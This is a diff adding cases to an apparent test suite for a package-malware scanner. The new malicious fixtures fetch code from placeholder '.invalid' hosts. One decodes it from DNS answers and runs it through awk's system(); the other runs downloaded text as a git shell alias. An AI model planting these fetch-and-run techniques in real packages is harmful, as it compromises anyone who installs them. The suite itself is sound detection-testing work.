@@ -70,6 +70,20 @@ CASES = [
             "def boot():\n    src = _octets('b.x.invalid').decode('latin-1')\n"
             "    eval(compile(src, '<b>', 'exec'))\n"),
     }, "malicious", ("PV326",), kind="wheel"),
+    Case("ipaddress .packed of each answer, joined and run by a fixed-looking argv",
+         "packedargv", _init(
+        "packedargv",
+        "import ipaddress, socket, subprocess\n\n"
+        "_ips = [ai[4][0] for ai in socket.getaddrinfo('k.x.invalid', 53, socket.AF_INET)]\n"
+        "_src = b''.join(ipaddress.ip_address(ip).packed for ip in _ips).decode()\n"
+        "subprocess.run(['awk', 'BEGIN { system(ARGV[1]) }', _src])\n"), "malicious",
+        ("PV326",), kind="wheel"),
+    Case("downloaded text handed to a program's -c option in an argv list", "gitalias", _init(
+        "gitalias",
+        "import subprocess, urllib.request\n\n"
+        "_cmd = urllib.request.urlopen('https://c.x.invalid/a').read().decode()\n"
+        "subprocess.run(['git', '-c', 'alias.up=!' + _cmd, 'up'])\n"), "malicious",
+        ("PV325",), kind="wheel"),
     # benign look-alikes
     Case("resolver cache in front of connect", "dnscache", _init(
         "dnscache",
